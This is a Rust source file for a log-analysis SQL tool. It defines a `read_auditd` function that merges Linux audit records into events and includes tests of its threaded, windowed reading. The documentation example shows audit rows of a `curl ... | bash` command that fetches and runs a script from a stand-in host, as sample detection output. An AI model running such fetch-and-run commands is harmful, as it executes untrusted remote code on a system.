//! `read_auditd(path)`: files of the Linux audit system, as events.

use super::audit_records::{self, Records};
use super::audit_windows::{self, Windows};
use super::{Common, ENCODING, MAX_LINE};
use crate::batch::{Batch, Wanted};
use crate::format::{Control, LogColumn, LogFormat, LogScan};
use crate::{Error, Piece, Result, Source};
use encoding_rs::Encoding;
use huntsql_kernels::at_once::{at_once, processors};
use huntsql_kernels::column::{Column, Data, SqlValue};
use huntsql_kernels::interrupt::Interrupt;
use huntsql_kernels::logs::AuditEvent;
use huntsql_kernels::options::{OptionField, Options, Setting};
use huntsql_kernels::spec::{Arg, Example, Family, Spec};
use huntsql_kernels::types::SqlType;
use std::collections::VecDeque;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// The format of `read_auditd`.
pub(crate) struct ReadAuditd;

/// Options of `read_auditd`.
#[derive(Debug, Clone, Default)]
pub(crate) struct ReadAuditdOptions(Common);

impl Options for ReadAuditdOptions {
    const FIELDS: &'static [OptionField] = &[ENCODING, MAX_LINE];

    fn set(&mut self, name: &str, setting: Setting) -> std::result::Result<(), String> {
        self.0.set(name, &setting).map(drop)
    }
}

const FIELDS: &[(&str, SqlType)] = match <AuditEvent>::TYPE {
    SqlType::Struct(fields) => fields,
    _ => &[],
};

/// Bytes of records after which a batch is full, however few its events.
const MOST_BYTES: usize = 16 << 20;

/// How many threads read a file. Its records belong together wherever they are, so that it is one piece for the engine.
#[derive(Debug)]
pub(crate) struct Threads {
    files: usize,
    /// Pieces that an engine asked for, which is what it would have read at once.
    pieces: AtomicUsize,
}

impl Threads {
    fn for_a_file(&self) -> usize {
        (self.pieces.load(Ordering::Relaxed).min(processors()) / self.files.max(1)).max(1)
    }
}

impl LogFormat for ReadAuditd {
    const SPEC: Spec = Spec {
        name: "read_auditd",
        family: Family::Files,
        summary: "Reads files of the Linux audit system: one row for what one system call or one login did, all its records merged.",
        details: "\
One row an event, with the columns that [`auditd_events`](logs.md#auditd_events) gives, in order of time and serial within a file. Lines that are no audit records are left out: other
programs' lines of a syslog, for one. Each file is taken as the log of one host, where the lines do not name it (`node=`); an event whose records go on in the next file, after a rotation, is two rows.
A file on disk whose records are almost in order, as auditd writes them, is read twice, some megabytes at a time; that it grows meanwhile does no harm. Of others (packed, in an archive, out of order by more than 4,096 records) \
all records are held in memory while they are read, at most 4 GiB with 48 bytes for what is noted of each. Several threads read it, at most eight for all files together: on DataFusion no more than a statement has partitions; \
in DuckDB, which does not tell an extension, as many as there are processors, whatever `SET threads` says.",
        args: &[Arg { name: "path", doc: super::PATH }],
        examples: &[Example {
            sql: "SELECT pid, ppid, command_line FROM read_auditd('examples/logs/audit.log') WHERE syscall = 'execve' AND uid = 998 AND comm <> 'java' ORDER BY serial LIMIT 4",
            result: "30011 | 1402 | /bin/sh -c curl -s http://stage.example.net/x.sh | bash\n30012 | 30011 | curl -s http://stage.example.net/x.sh\n30013 | 30011 | bash\n30015 | 30013 | id",
        }],
    };
    const COLUMNS: &'static [(&'static str, SqlType)] = FIELDS;
    const HAS_LINES: bool = false;
    type Options = ReadAuditdOptions;
    type Layout = Threads;

    fn encoding(options: &ReadAuditdOptions) -> Option<&'static Encoding> {
        options.0.encoding
    }

    fn look(_: &ReadAuditdOptions, sources: &[Arc<Source>], _: &Control) -> Result<(Vec<LogColumn>, Threads)> {
        let columns = FIELDS.iter().map(|(name, ty)| LogColumn { name: (*name).to_owned(), ty: *ty }).collect();
        Ok((columns, Threads { files: sources.len(), pieces: AtomicUsize::new(1) }))
    }

    fn pieces(threads: &Threads, source: &Arc<Source>, count: usize) -> Vec<Piece> {
        threads.pieces.store(count, Ordering::Relaxed);
        vec![Piece::whole(Arc::clone(source))]
    }

    fn scan(
        piece: &Piece,
        threads: &Arc<Threads>,
        options: &Arc<ReadAuditdOptions>,
        wanted: &Wanted,
        control: &Control,
    ) -> Result<Box<dyn LogScan>> {
        let fields = (0..FIELDS.len()).map(|index| wanted.has(index)).collect();
        Ok(Box::new(Scan {
            piece: piece.clone(),
            common: options.0,
            control: control.clone(),
            fields,
            threads: threads.for_a_file(),
            log: None,
            next: 0,
            ready: VecDeque::new(),
        }))
    }
}

struct Scan {
    piece: Piece,
    common: Common,
    control: Control,
    /// Which fields are wanted.
    fields: Vec<bool>,
    /// Threads that may work at once.
    threads: usize,
    /// `None` before the first batch.
    log: Option<Held>,
    /// The first record that no batch was made of.
    next: usize,
    ready: VecDeque<Column>,
}

/// What is held of a file.
enum Held {
    /// All records, in order: those of one event may lie anywhere.
    All(Records),
    /// A window of a file that is almost in order.
    Window(Box<Windows>),
}

impl Held {
    fn records(&self) -> &Records {
        match self {
            Self::All(records) => records,
            Self::Window(windows) => windows.records(),
        }
    }
}

impl Scan {
    fn open(&self) -> Result<Held> {
        let Self { piece, common, control, threads, .. } = self;
        let most = audit_records::MOST_BYTES;
        Ok(match audit_windows::lateness(piece, *common, control, *threads)? {
            Some(lateness) => Held::Window(Box::new(Windows::open(piece, *common, control, lateness, most)?)),
            None => Held::All(Records::read(piece, *common, control, *threads, most)?),
        })
    }

    /// Makes the batches after the last ones, one for each thread; false at the end.
    fn make(&mut self, most: usize) -> Result<bool> {
        let mut held = match self.log.take() {
            Some(held) => held,
            None => self.open()?,
        };
        if let Held::Window(windows) = &mut held
            && self.next == windows.records().log.len()
        {
            self.next = 0;
            if !windows.next(self.threads)? {
                return Ok(false);
            }
        }
        let records = self.log.insert(held).records();
        let mut ranges = Vec::with_capacity(self.threads);
        while ranges.len() < self.threads && self.next < records.log.len() {
            let range = records.log.batch(self.next, most, MOST_BYTES, |chunk| records.text(chunk));
            self.next = range.end;
            ranges.push(range);
        }
        let is_all = ranges.is_empty();
        let interrupt = Interrupt::from(Arc::clone(&self.control.cancel));
        let made = at_once(ranges, self.threads, |range| {
            let mut column = Column::of_fields(&<AuditEvent>::TYPE, Some(&self.fields));
            let written = records.log.write(range, |chunk| records.text(chunk), &interrupt, &mut column);
            written.map(|()| column).map_err(|_| Error::Cancelled)
        })?;
        self.ready.extend(made);
        Ok(!is_all || matches!(self.log, Some(Held::Window(_))))
    }
}

impl LogScan for Scan {
    fn fill(&mut self, batch: &mut Batch) -> Result<bool> {
        let more = !self.ready.is_empty() || self.make(batch.room())?;
        if let Some(events) = self.ready.pop_front() {
            (0..events.len()).for_each(|_| batch.end_row(0, 0));
            if let Data::Struct(columns) = events.into_parts().2 {
                batch.put(columns);
            }
        }
        Ok(more)
    }
}

#[cfg(test)]
mod tests {
    use super::super::audit_windows::Lateness;
    use super::*;
    use crate::Place;

    /// A file is read as a whole before there is a row.
    #[test]
    fn a_cancelled_read_stops() {
        let bytes = "type=A msg=audit(1.0:1): a=1\n".repeat(10).into_bytes();
        let piece = Piece::whole(Arc::new(Source::new("x", Place::Memory(bytes.clone().into()), bytes.len() as u64)));
        let control = Control::default();
        let read = |threads| Records::read(&piece, Common::default(), &control, threads, usize::MAX);
        assert!(read(1).is_ok() && read(2).is_ok());
        control.cancel.store(true, Ordering::Relaxed);
        assert!(matches!((read(1), read(2)), (Err(Error::Cancelled), Err(Error::Cancelled))));
    }

    /// All columns, in batches of `most`.
    fn columns(name: &str, place: Place, size: usize, threads: usize, most: usize) -> Vec<String> {
        let entry = crate::FileEntry { name: name.to_owned(), path: name.into(), size: size as u64, modified: None, found: false };
        let log = crate::catalogue::reader("read_auditd").unwrap();
        let log = log.open(vec![(entry, place)], &huntsql_kernels::options::Value::Null, &Control::default()).unwrap();
        let wanted: Vec<usize> = (0..FIELDS.len()).collect();
        let mut shown = Vec::new();
        for piece in log.pieces(threads) {
            let mut scan = log.scan(&piece, &wanted, &Control::default()).unwrap();
            while let Some((columns, rows)) = scan.next(most).unwrap() {
                assert!(rows <= most);
                shown.push(format!("{columns:?}"));
            }
        }
        shown
    }

    /// Events lie across the borders of the pieces, and their records in any order.
    #[test]
    fn threads_change_nothing() {
        let mut text = String::new();
        let mut serial = 0u64;
        while text.len() < 9 << 20 {
            serial += 1;
            let at = serial * 7919 % 60_000;
            let kind = ["SYSCALL", "CWD", "PATH", "PROCTITLE"][serial as usize % 4];
            text.push_str(&format!(
                "type={kind} msg=audit(15.{:03}:{}): pid={serial} name=\"{}\"\n",
                at % 7,
                at / 4,
                "x".repeat(serial as usize % 300)
            ));
        }
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), &text).unwrap();
        let read = |threads| columns("x", Place::Disk(file.path().into()), text.len(), threads, 1000);
        let one = read(1);
        assert!(one.len() > 10);
        for threads in [2, 3] {
            assert!(read(threads) == one, "{threads} threads");
        }
        assert!(columns("x", Place::Memory(text.clone().into_bytes().into()), text.len(), 2, 1000) == one);
    }

    /// A log as auditd writes it: events in order, their records mixed with those of their neighbours, other programs' lines between them, one event that
    /// goes on for megabytes, and one line that is there twice.
    fn almost_in_order(events: usize) -> String {
        let mut lines: Vec<(usize, String)> = Vec::new();
        for serial in 0..events {
            // Up to a dozen records later; but nothing is mixed with the long event.
            let late = if serial.abs_diff(events / 2) > 10 { serial * 7 % 5 } else { 0 };
            for (at, kind) in ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"].iter().enumerate() {
                let (host, filler) = (["a", "b"][serial % 2], "x".repeat(serial * 31 % 200));
                let line = format!(
                    "node={host} type={kind} msg=audit({}.{:03}:{serial}): pid={serial} name=\"{filler}\"\r\n",
                    serial / 900,
                    serial / 3 % 300
                );
                lines.push((serial * 5 + at + late * at, line));
            }
            let longest = if serial == events / 2 { 9_000 } else { 0 };
            lines.extend((0..longest).map(|item| {
                (
                    serial * 5 + 4,
                    format!(
                        "node=a type=PATH msg=audit({}.{:03}:{serial}): item={item} name=\"{}\"\n",
                        serial / 900,
                        serial / 3 % 300,
                        "y".repeat(250)
                    ),
                )
            }));
            if serial % 50 == 0 {
                lines.push((serial * 5, "Oct  1 00:00:00 h app: (no record)\n\n".to_owned()));
            }
        }
        lines.push(lines[7].clone());
        lines.sort_by_key(|(place, _)| *place);
        lines.into_iter().map(|(_, line)| line).collect()
    }

    /// What is read in windows is what is read as a whole, whatever their borders.
    #[test]
    fn windows_change_nothing() {
        let text = almost_in_order(9_000);
        // The first line again, at the end: too late for windows.
        let late = format!("{text}{}", "node=a type=SYSCALL msg=audit(0.000:0): pid=1\n");
        for (text, is_window) in [(&text, true), (&late, false)] {
            assert!(text.len() > 8 << 20);
            let file = tempfile::NamedTempFile::new().unwrap();
            std::fs::write(file.path(), text).unwrap();
            let source = Arc::new(Source::new("x", Place::Disk(file.path().into()), text.len() as u64));
            let whole = columns("x", Place::Memory(text.as_bytes().to_vec().into()), text.len(), 1, 1);
            assert_eq!(whole.len(), 9_000);
            for threads in [1, 2, 3] {
                let piece = Piece::whole(Arc::clone(&source));
                let lateness = audit_windows::lateness(&piece, Common::default(), &Control::default(), threads).unwrap();
                assert_eq!(
                    lateness.is_some_and(|known| (1..2_000).contains(&known.late) && known.count > 50_000),
                    is_window,
                    "{lateness:?}"
                );
                assert!(columns("x", Place::Disk(file.path().into()), text.len(), threads, 1) == whole, "{threads} threads");
            }
        }
    }

    /// A window holds what may go on, and no more.
    #[test]
    fn windows_are_small() {
        let text = almost_in_order(20_000);
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), &text).unwrap();
        let piece = Piece::whole(Arc::new(Source::new("x", Place::Disk(file.path().into()), text.len() as u64)));
        let read = |most| {
            let mut windows = Windows::open(&piece, Common::default(), &Control::default(), Lateness { late: 100, count: 0 }, most)?;
            while windows.next(1)? {}
            Ok::<_, Error>(())
        };
        // The event of megabytes and a window.
        assert!(text.len() > 16 << 20 && read(10 << 20).is_ok());
        let error = read(2 << 20).unwrap_err().to_string();
        assert_eq!(error, "cannot read 'x': its audit records take more than 2097152 bytes of memory; cut the file into several");
    }

    /// Nobody sees half of an event because somebody wrote to the file meanwhile.
    #[test]
    fn a_file_that_changes_is_told() {
        let text = almost_in_order(9_000);
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), &text).unwrap();
        let piece = Piece::whole(Arc::new(Source::new("x", Place::Disk(file.path().into()), text.len() as u64)));
        let lateness = audit_windows::lateness(&piece, Common::default(), &Control::default(), 1).unwrap().unwrap();
        let read_with = |meanwhile: &str| {
            std::fs::write(file.path(), &text).unwrap();
            let mut windows = Windows::open(&piece, Common::default(), &Control::default(), lateness, usize::MAX).unwrap();
            assert!(windows.next(1).unwrap());
            std::fs::write(file.path(), meanwhile).unwrap();
            loop {
                match windows.next(1) {
                    Ok(true) => {}
                    Ok(false) => break "the end".to_owned(),
                    Err(error) => break error.to_string(),
                }
            }
        };
        let changed = "cannot read 'x': it was changed while it was read; read a copy that nobody writes to";
        assert_eq!(read_with(&format!("{text}type=CWD msg=audit(0.001:1): cwd=\"/\"\n")), changed);
        assert_eq!(read_with(&text[..text.len() / 2]), changed);
        assert_eq!(read_with(&format!("{text}type=CWD msg=audit(9999.001:1): cwd=\"/\"\n")), "the end");
    }

    /// A host that writes its audit log among everything else, and has the clock ahead when it starts: thousands of records belong before the first.
    #[test]
    fn of_other_lines_nothing_is_held() {
        let other = format!("Oct  1 00:00:00 h app: {}\n", "z".repeat(10_000));
        let text: String =
            (0..3_000).map(|at| format!("type=A msg=audit({}.0:{at}): pid={at}\n{other}", if at == 0 { 2_500 } else { at })).collect();
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), &text).unwrap();
        let piece = Piece::whole(Arc::new(Source::new("x", Place::Disk(file.path().into()), text.len() as u64)));
        let lateness = audit_windows::lateness(&piece, Common::default(), &Control::default(), 2).unwrap().unwrap();
        assert_eq!(lateness, Lateness { late: 2_499, count: 3_000 });
        let mut windows = Windows::open(&piece, Common::default(), &Control::default(), lateness, 1 << 20).unwrap();
        let mut records = 0;
        while windows.next(2).unwrap() {
            records += windows.records().log.len();
        }
        assert!(records == 3_000 && text.len() > 28 << 20);
        let whole = columns("x", Place::Memory(text.as_bytes().to_vec().into()), text.len(), 1, 1);
        assert!(whole.len() == 3_000 && columns("x", Place::Disk(file.path().into()), text.len(), 2, 1) == whole);
    }

    /// Few records among many other lines are copied, all lines of a block are not; both read the same.
    #[test]
    fn other_lines_change_nothing() {
        let records: Vec<String> = (0..40_000).map(|at| format!("type=A msg=audit({}.0:{at}): pid={at}\r\n", at / 5)).collect();
        let plain = records.concat();
        let mixed: String =
            records.iter().map(|record| format!("{record}Oct  1 00:00:00 h app: (no record)\n\n{}", "y".repeat(50) + "\n")).collect();
        let read = |text: &str| columns("x", Place::Memory(text.as_bytes().to_vec().into()), text.len(), 1, 8192);
        assert!(plain.len() > 1 << 20 && read(&plain) == read(&mixed) && read(&plain).len() == 5);
    }
}
